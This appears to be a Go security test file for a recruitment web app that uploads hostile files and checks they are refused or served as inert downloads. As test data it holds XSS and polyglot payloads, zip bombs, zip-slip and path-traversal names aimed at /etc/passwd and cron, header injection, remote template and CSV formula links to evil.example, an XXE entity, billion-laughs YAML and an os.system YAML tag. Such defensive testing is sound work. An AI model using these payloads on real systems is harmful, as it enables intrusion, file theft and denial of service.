package hostile

import (
	"archive/zip"
	"bytes"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"runtime"
	"strings"
	"testing"

	"merit/internal/figures"
	"merit/internal/server/servertest"
)

// archive is a zip of files, each name with its content.
func archive(t testing.TB, files ...string) string {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := 0; i+1 < len(files); i += 2 {
		w, err := z.Create(files[i])
		if err == nil {
			_, err = io.WriteString(w, files[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// bomb is a zip that is small and unpacks to a great many bytes.
func bomb(t testing.TB, name string, size int64, around ...string) string {
	t.Helper()
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for i := 0; i+1 < len(around); i += 2 {
		w, err := z.Create(around[i])
		if err == nil {
			_, err = io.WriteString(w, around[i+1])
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	w, err := z.Create(name)
	if err == nil {
		_, err = io.CopyN(w, zeros{}, size)
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return out.String()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// upload sends a file of a name through a form.
func upload(t testing.TB, c *servertest.Client, path, field, name, content string) servertest.Reply {
	t.Helper()
	var body bytes.Buffer
	m := multipart.NewWriter(&body)
	w, err := m.CreatePart(map[string][]string{
		"Content-Disposition": {`form-data; name="` + field + `"; filename="` + strings.NewReplacer(`"`, `%22`, "\r", "%0D", "\n", "%0A").Replace(name) + `"`},
		"Content-Type":        {"text/html"},
	})
	if err == nil {
		_, err = io.WriteString(w, content)
	}
	if err == nil {
		err = m.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return c.Do(http.MethodPost, path, m.FormDataContentType(), body.String())
}

const (
	pdf   = "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"
	types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`
)

// What is not what it says, or is more than it says, is refused, or kept and given back as a file to be saved that no
// browser takes for a page: whoever may have it, nobody else, and whatever page they come from.
func TestHostileFilesAreRefusedOrDisarmed(t *testing.T) {
	t.Parallel()
	s, ok := newStand(t)
	if !ok {
		return
	}
	victim, panel, nobody := s.SignIn(t, s.victim), s.SignIn(t, s.Person("Otto Outsider", true)), s.Browser(t)
	root := "/vacancies/" + s.ids[0]["vacancy"] + "/candidates/" + s.ids[0]["candidate"] + "/documents"
	word := archive(t, "[Content_Types].xml", types, "word/document.xml", "<w:document/>")
	files := map[string]string{
		"page.pdf":                            "<html><script>1</script>",
		"picture.pdf":                         `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		"script.pdf":                          "GIF89a=1;/*" + pdf + "*/",
		"late.pdf":                            strings.Repeat(" ", 2000) + pdf,
		"program.docx":                        "MZ\x90\x00\x03",
		"elf.pdf":                             "\x7fELF\x02\x01",
		"empty.pdf":                           "",
		"cut.pdf":                             pdf[:20],
		"archive.docx":                        archive(t, "a.txt", "a"),
		"page.docx":                           archive(t, "index.html", "<script>1</script>", "[Content_Types].xml", types),
		"macros.docx":                         archive(t, "[Content_Types].xml", types, "word/document.xml", "<w/>", "word/vbaProject.bin", "x"),
		"MACROS.DOCX":                         archive(t, "[Content_Types].xml", types, "word/document.xml", "<w/>", "WORD/VBAPROJECT.BIN", "x"),
		"workbook.docx":                       archive(t, "[Content_Types].xml", types, "xl/workbook.xml", "<x/>"),
		"damaged.docx":                        word[:len(word)-9],
		"hta.docx":                            "<HTA:APPLICATION>" + word,
		"both.pdf":                            pdf + word + "<script>1</script>\n%%EOF",
		"remote.docx":                         archive(t, "[Content_Types].xml", types, "word/document.xml", "<w/>", "word/_rels/document.xml.rels", `<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>`),
		"bomb.docx":                           bomb(t, "word/media/a.bin", 200<<20, "[Content_Types].xml", types, "word/document.xml", "<w/>"),
		"slip.docx":                           archive(t, "[Content_Types].xml", types, "word/document.xml", "<w/>", "../../../../etc/cron.d/x", "x"),
		`..\..\..\etc\passwd.pdf`:             pdf,
		"../../../etc/cron.d/x.pdf":           pdf,
		"a\r\nX-Evil: 1\r\n\r\n<script>.pdf":  pdf,
		"\u202efdp.exe":                       pdf,
		"x.html;.pdf":                         pdf,
		`x".html.pdf`:                         pdf,
		strings.Repeat("long", 3000) + ".pdf": pdf,
		"cv.pdf.html":                         pdf,
		".htaccess":                           pdf,
		"nul\x00.html":                        pdf,
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	kept := 0
	for name, content := range files {
		got := upload(t, victim, root, "file", name, content)
		switch got.Status {
		case http.StatusSeeOther:
			kept++
		case http.StatusUnprocessableEntity:
		default:
			t.Errorf("%q: %d", name, got.Status)
		}
		s.inspect(t, "upload of "+name, got)
	}
	runtime.ReadMemStats(&after)
	if after.Sys-before.Sys > 256<<20 {
		t.Errorf("it took %d MB", (after.Sys-before.Sys)>>20)
	}
	for _, refused := range []string{"page.pdf", "picture.pdf", "script.pdf", "late.pdf", "program.docx", "elf.pdf", "empty.pdf", "cut.pdf", "archive.docx", "page.docx", "macros.docx", "MACROS.DOCX", "workbook.docx", "damaged.docx", "hta.docx"} {
		if got := upload(t, victim, root, "file", refused, files[refused]); got.Status != http.StatusUnprocessableEntity {
			t.Errorf("%s is taken: %d", refused, got.Status)
		}
	}
	list := victim.Get(root)
	s.inspectPage(t, "the list of documents", list.Body)
	given := 0
	for _, part := range strings.Split(list.Body, `href="`+root+"/")[1:] {
		path := root + "/" + part[:36]
		got := victim.Get(path)
		given++
		disposition, params, err := mime.ParseMediaType(got.Header.Get("Content-Disposition"))
		if err != nil || disposition != "attachment" || strings.ContainsAny(params["filename"], "/\\\r\n\"") || !strings.HasSuffix(params["filename"], ".pdf") && !strings.HasSuffix(params["filename"], ".docx") {
			t.Errorf("%s is given as %q (%v)", path, got.Header.Get("Content-Disposition"), err)
		}
		if kind := got.Header.Get("Content-Type"); kind != "application/pdf" && kind != "application/vnd.openxmlformats-officedocument.wordprocessingml.document" {
			t.Errorf("%s is given as %s", path, kind)
		}
		if got.Header.Get("X-Content-Type-Options") != "nosniff" || got.Header.Get("Content-Security-Policy") != "default-src 'none'; sandbox" || got.Header.Get("Cross-Origin-Resource-Policy") != "same-origin" || got.Header.Get("X-Evil") != "" {
			t.Errorf("%s: %v", path, got.Header)
		}
		// A page one came from proves nothing.
		for who, c := range map[string]*servertest.Client{"nobody": nobody, "an outsider": panel} {
			for _, from := range []string{"", s.URL + root, "https://evil.example/"} {
				if r := c.Do(http.MethodGet, path, "", "", "Referer", from, "Origin", s.URL); r.Status == http.StatusOK || strings.Contains(r.Body, "%PDF") {
					t.Errorf("%s gets %s with Referer %q: %d", who, path, from, r.Status)
				}
			}
		}
	}
	if given < kept || kept < 10 {
		t.Errorf("%d files were kept, and %d are given back", kept, given)
	}
	figures.Add(t, "Hostile files refused or disarmed", len(files)+s.hostileLists(t, victim)+s.hostileRoles(t, victim))
	if !strings.Contains(strings.Join(column(t, s.open(t), "PRAGMA integrity_check"), ""), "ok") {
		t.Error("the database is damaged")
	}
}

// hostileLists uploads lists of candidates that are none, or too much.
func (s *stand) hostileLists(t *testing.T, victim *servertest.Client) int {
	t.Helper()
	root := "/vacancies/" + s.ids[0]["vacancy"] + "/candidates/list"
	sheet := func(cell string) string {
		return archive(t, "[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
			"_rels/.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
			"xl/workbook.xml", `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>`,
			"xl/_rels/workbook.xml.rels", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file://evil.example/share/x.xlsx" TargetMode="External"/></Relationships>`,
			"xl/worksheets/sheet1.xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b"><!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>`+cell+`</t></is></c></row></sheetData></worksheet>`)
	}
	lists := map[string]string{
		"nul.csv": "name,email\nAda \x00 Archer,ada@example.org\n", "bytes.csv": "name,email\nAda \xff\xfe Archer,ada@example.org\n", "page.csv": "<html><script>1</script>",
		"formula.csv": "name,email\n\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",ada@example.org\n", "rows.csv": "name\n" + strings.Repeat("a\n", 60_000), "columns.csv": strings.Repeat("a,", 50_000) + "\n",
		"entity.xlsx": sheet("&f;"), "link.xlsx": sheet("Ada Archer"), "bomb.xlsx": bomb(t, "xl/worksheets/sheet1.xml", 300<<20), "names.xlsx": archive(t, "../../evil", "x"), "picture.xlsx": "GIF89a",
	}
	for name, content := range lists {
		got := upload(t, victim, root, "file", name, content)
		s.inspect(t, "list "+name, got)
		if got.Status >= 500 || strings.Contains(got.Body, "root:") {
			t.Errorf("%s: %d", name, got.Status)
		}
		page := victim.Get(root)
		s.inspect(t, "list "+name, page)
		if strings.Contains(page.Body, "root:x") {
			t.Errorf("%s reads the server's files", name)
		}
	}
	for table, all := range s.dump(t) {
		for row := range all {
			if strings.Contains(row, "\\u0000") && table == "candidate_lists" {
				t.Errorf("%s keeps U+0000, which PostgreSQL cannot: %.200s", table, row)
			}
		}
	}
	return len(lists)
}

// hostileRoles uploads role texts that are none, or too much.
func (s *stand) hostileRoles(t *testing.T, victim *servertest.Client) int {
	t.Helper()
	deep := strings.Repeat("[", 100_000)
	var laughs strings.Builder
	laughs.WriteString("a: &a [x,x,x,x,x,x,x,x,x,x]\n")
	for _, l := range "bcdefghij" {
		laughs.WriteString(string(l) + ": &" + string(l) + " [" + strings.TrimSuffix(strings.Repeat("*"+string(l-1)+",", 10), ",") + "]\n")
	}
	roles := map[string]string{
		"deep.json": deep, "laughs.yaml": laughs.String(), "nul.txt": "Role level: \x00\nSkill: a (expert)\n- b\n", "bytes.txt": "Role level: \xff\nSkill: a (expert)\n- b\n",
		"page.txt": "Role level: <script>window.__executed=1</script>\nSkill: <img src=x onerror=1> (expert)\n- <svg onload=1>\n", "tag.yaml": "!!python/object/apply:os.system [id]\n", "long.txt": "Role level: " + strings.Repeat("a", 900_000),
	}
	for name, content := range roles {
		s.inspect(t, "role "+name, upload(t, victim, "/roles/preview", "file", name, content))
		s.inspect(t, "role "+name, upload(t, victim, "/roles", "file", name, content))
	}
	return len(roles)
}
